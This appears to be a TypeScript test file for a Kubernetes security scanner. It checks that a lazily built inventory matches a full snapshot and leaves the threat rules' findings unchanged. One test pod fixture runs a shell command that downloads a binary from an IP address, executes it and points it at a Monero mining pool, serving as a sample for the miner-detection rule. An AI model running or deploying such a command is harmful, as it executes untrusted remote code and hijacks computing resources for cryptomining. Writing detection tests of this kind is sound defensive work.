import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { runRules } from '../../src/core/engine.js';
import { LazyInventory } from '../../src/core/lazy-inventory.js';
import { Snapshot } from '../../src/core/snapshot.js';
import type { K8sObject, ScannedObject } from '../../src/core/types.js';
import { podLabelsOf } from '../../src/k8s/inventory.js';
import { ALL_RULES } from '../../src/rules/index.js';

const origin = { kind: 'audit', auditID: 'a', verb: 'create', user: 'u' } as unknown as ScannedObject['origin'];
const pod = (command: string[], extra: Record<string, unknown> = {}): K8sObject => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'p', namespace: 'ns', labels: { app: 'x' } },
  spec: { containers: [{ name: 'main', image: 'tensorflow/tensorflow:latest', command, ...extra }] },
});
const service: K8sObject = { apiVersion: 'v1', kind: 'Service', metadata: { name: 's', namespace: 'ns' }, spec: { selector: { app: 'x' } } };

describe('an inventory built on its first query', () => {
  test('answers as the snapshot of the same objects, and is built only when asked', () => {
    const objects = [{ object: pod(['sh']), origin }];
    const lazy = new LazyInventory(objects, podLabelsOf);
    const snapshot = Snapshot.of(objects, podLabelsOf);
    assert.equal(lazy.wasBuilt, false);
    assert.deepEqual(lazy.get('Pod', 'ns', 'p'), snapshot.get('Pod', 'ns', 'p'));
    assert.equal(lazy.wasBuilt, true);
    assert.deepEqual(lazy.ofKind('Pod', ''), snapshot.ofKind('Pod', ''));
    assert.deepEqual(lazy.inNamespace('ns'), snapshot.inNamespace('ns'));
    assert.deepEqual(lazy.namespaces(), snapshot.namespaces());
    assert.deepEqual(lazy.selectedByService(service), snapshot.selectedByService(service));
    assert.equal(lazy.selectedByService(service).length, 1);
    assert.equal(lazy.originOf(objects[0]!.object), objects[0]);
  });

  test('the threat rules give the same findings with it as with a snapshot, and ask it nothing on a plain pod', () => {
    const rules = ALL_RULES.filter((rule) => rule.meta.category === 'threat');
    let findings = 0;
    for (const object of [pod(['sh', '-c', 'curl -s http://198.51.100.9/x -o /tmp/x && /tmp/x -o stratum+tcp://pool.supportxmr.com:443']), pod(['python', 'train.py'])]) {
      const judged = [{ object, origin }];
      const lazy = new LazyInventory(judged, podLabelsOf);
      const withLazy = runRules(judged, { rules, podLabelsOf, inventory: lazy });
      const withSnapshot = runRules(judged, { rules, podLabelsOf });
      assert.deepEqual(withLazy, withSnapshot);
      assert.equal(lazy.wasBuilt, false);
      findings += withLazy.findings.length;
    }
    // The miner pod is found, so the comparison is not of two empty results.
    assert.ok(findings > 0);
    // A workload naming a ConfigMap makes the miner rule look it up: the snapshot is built then.
    const reading = [{ object: pod(['sh', '-c', 'run $X'], { env: [{ name: 'X', valueFrom: { configMapKeyRef: { name: 'c', key: 'k' } } }] }), origin }];
    const lazy = new LazyInventory(reading, podLabelsOf);
    assert.deepEqual(runRules(reading, { rules, podLabelsOf, inventory: lazy }), runRules(reading, { rules, podLabelsOf }));
    assert.equal(lazy.wasBuilt, true);
  });
});
